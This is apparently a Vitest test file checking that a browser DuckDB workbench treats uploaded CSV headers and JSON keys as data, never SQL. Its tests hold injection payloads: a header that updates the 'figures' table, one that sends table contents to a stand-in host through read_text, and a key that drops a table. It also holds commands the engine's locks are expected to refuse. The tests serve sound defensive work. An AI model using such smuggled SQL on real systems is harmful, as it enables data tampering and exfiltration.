/**
 * A reader's file loaded into the workbench's DuckDB (the browser's duckdb-wasm build, locked as
 * in the page): whatever its header, cells or keys hold, it becomes data and never a statement.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { loadUserFile, SLICE_BYTES } from '../../src/lib/db/user-tables';
import { LoadProblem } from '../../src/lib/sql/file-kind';
import { wasmDb, type WasmDb } from './wasm-duckdb';

let w: WasmDb;
beforeAll(async () => {
	w = await wasmDb();
}, 60_000);

const quoteCell = (s: string) => `"${s.replaceAll('"', '""')}"`;
let tables = 0;

async function load(name: string, body: string) {
	const table = `t${++tables}`;
	const file = new File([body], name);
	const conn = w.connection();
	const done = await loadUserFile(conn, file, table, {
		signal: new AbortController().signal,
		onProgress: () => undefined
	});
	await conn.close();
	return { ...done, columns: w.rows(`DESCRIBE ${table}`).map((r) => String(r.column_name)) };
}

async function problem(name: string, body: string) {
	try {
		await load(name, body);
	} catch (e) {
		if (e instanceof LoadProblem) return e;
		throw e;
	}
	throw new Error('loaded without a problem');
}

const curated = () => w.rows('SELECT quote FROM curated.figures ORDER BY source_order');

describe('a CSV header is data, never SQL', () => {
	it('keeps a header written to end the reader call and update the figures as a column name', async () => {
		const before = curated();
		const tamper = `x': 'VARCHAR'}); UPDATE figures SET quote = 'TAMPERED by a CSV header'; --`;
		const t = await load('tamper.csv', `${quoteCell(tamper)},b\n1,2\n`);
		expect(t.columns).toEqual([tamper, 'b']);
		expect(t.rows).toBe(1);
		expect(curated()).toEqual(before);
	});

	it('keeps a header shaped to read another table and send it away as a column name', async () => {
		const exfil = `x': 'VARCHAR'}); SELECT * FROM read_text('http://127.0.0.1:9/?' || (SELECT string_agg(quote) FROM query_table(getvariable('t')))); --`;
		const t = await load('exfil.csv', `${quoteCell(exfil)}\nsecret\n`);
		expect(t.columns).toEqual([exfil]);
	});

	it("loads an ordinary apostrophe (Children's share)", async () => {
		const t = await load('shares.csv', "country,Children's share\nMexico,0.4\n");
		expect(t.columns).toEqual(['country', "Children's share"]);
		expect(w.rows(`SELECT "Children's share" AS s FROM t${tables}`)).toEqual([{ s: 0.4 }]);
	});

	it('finds every column by its exact name, for any names (fuzzed)', async () => {
		const piece = fc.constantFrom(
			"'",
			'"',
			'\\',
			'{',
			'}',
			';',
			'(',
			')',
			',',
			'--',
			'/*',
			'*/',
			' SELECT ',
			'DROP TABLE figures',
			'$$',
			':',
			'é',
			'ñ',
			'😀',
			'中',
			'\u00a0',
			'a',
			'Z',
			'7'
		);
		const name = fc
			.array(piece, { minLength: 1, maxLength: 6 })
			.map((parts) => parts.join(''))
			// DuckDB trims names and compares them without regard to case.
			.filter((n) => n.trim() === n && n.trim() !== '');
		await fc.assert(
			fc.asyncProperty(
				fc.uniqueArray(name, {
					minLength: 1,
					maxLength: 5,
					selector: (n) => n.toLowerCase()
				}),
				async (names) => {
					const before = curated();
					const header = names.map(quoteCell).join(',');
					const row = names.map((_, i) => String(i)).join(',');
					const t = await load('fuzz.csv', `${header}\n${row}\n`);
					expect(t.columns).toEqual(names);
					expect(curated()).toEqual(before);
				}
			),
			{ numRuns: 60 }
		);
		// A limit, not a measure: sixty loads on a busy machine take a while.
	}, 120_000);
});

describe('line endings and long lines', () => {
	it('loads CRLF, CR-only and mixed files with every row', async () => {
		for (const [name, body] of [
			['crlf.csv', 'a,b\r\n1,2\r\n3,4\r\n'],
			['cr.csv', 'a,b\r1,2\r3,4\r'],
			['mixed.csv', 'a,b\r\n1,2\n3,4\r\n']
		] as const) {
			const t = await load(name, body);
			expect(t.rows, name).toBe(2);
			expect(w.rows(`SELECT sum(a + b)::INTEGER AS s FROM t${tables}`)).toEqual([{ s: 10 }]);
		}
	});

	it('loads a cell longer than DuckDB’s 2 MB line limit', async () => {
		const big = 'x'.repeat(3_000_000);
		const t = await load('big-cell.csv', `a,b\n1,short\n2,"${big}"\n3,end\n`);
		expect(t.rows).toBe(3);
		expect(w.rows(`SELECT max(length(b)) AS n FROM t${tables}`)).toEqual([{ n: big.length }]);
	});

	it('names the file, not its internal buffer, and the real line, when a later value does not fit', async () => {
		const rows = Array.from({ length: 40 }, (_, i) => `${i},x`).join('\n');
		// Slices are 16 MB: one slice, so types come from every row; an error names its line.
		expect(SLICE_BYTES).toBeGreaterThan(rows.length);
		const p = await problem('ragged.csv', `a,b\n${rows}\n41,y,z\n`);
		expect(p.message).toMatch(/ragged\.csv/);
		expect(p.message).not.toMatch(/upload-/);
		expect(p.line).toBe(42);
	});
});

describe('JSON', () => {
	it('loads a column of several kinds as text and says so', async () => {
		const t = await load(
			'kinds.json',
			JSON.stringify([
				{ a: 1, b: 'x' },
				{ a: 'two', b: 'y' }
			])
		);
		expect(t.notes.join(' ')).toMatch(/“a” holds numbers and text, so it was loaded as text/);
		expect(w.rows(`SELECT a FROM t${tables} ORDER BY a`)).toEqual([{ a: '1' }, { a: 'two' }]);
	});

	it('keeps objects and lists as JSON text, with keys that appear only later', async () => {
		const t = await load(
			'nested.json',
			JSON.stringify([{ a: { x: 1 } }, { a: { y: 's' }, b: true }, { a: [1, 2] }])
		);
		expect(t.columns).toEqual(['a', 'b']);
		expect(w.rows(`SELECT a FROM t${tables}`).map((r) => r.a)).toEqual([
			'{"x":1}',
			'{"y":"s"}',
			'[1,2]'
		]);
	});

	it('refuses values nested deeper than it reads, in plain words', async () => {
		const deep = `[{"a": ${'['.repeat(200)}1${']'.repeat(200)}}]`;
		const p = await problem('deep.json', deep);
		expect(p.message).toMatch(/deep\.json” nests values more than 64 levels deep/);
	});

	it('keeps hostile keys as column names', async () => {
		const key = `x'); DROP TABLE figures; --`;
		const t = await load('keys.json', JSON.stringify([{ [key]: 1, "Children's share": 2 }]));
		expect(t.columns).toEqual([key, "Children's share"]);
		expect(curated()).toHaveLength(3);
	});
});

describe('the workbench’s locks', () => {
	it('refuse other sites, other files, extensions and changed settings', () => {
		const refused = (sql: string) => {
			try {
				w.rows(sql);
			} catch (e) {
				return e instanceof Error ? e.message : String(e);
			}
			return 'ran';
		};
		expect(refused(`SELECT * FROM read_text('http://127.0.0.1:9/x')`)).toMatch(/Permission/);
		expect(refused(`ATTACH 'http://127.0.0.1:9/x.db' AS x`)).toMatch(/Permission/);
		expect(refused(`COPY (SELECT 1) TO 'http://127.0.0.1:9/x.csv'`)).toMatch(/Permission/);
		expect(refused(`COPY (SELECT 1) TO '/tmp/cifras-x.csv'`)).toMatch(/Permission/);
		expect(refused(`LOAD httpfs`)).toMatch(/Permission|disabled/);
		expect(refused(`SET enable_external_access = true`)).toMatch(/locked/);
		expect(refused(`SET allowed_directories = ['/']`)).toMatch(/locked|Cannot change/);
		expect(refused(`SET custom_extension_repository = 'http://127.0.0.1:9/'`)).toMatch(/locked/);
		expect(refused(`RESET lock_configuration`)).toMatch(/locked|Cannot/);
	});
});
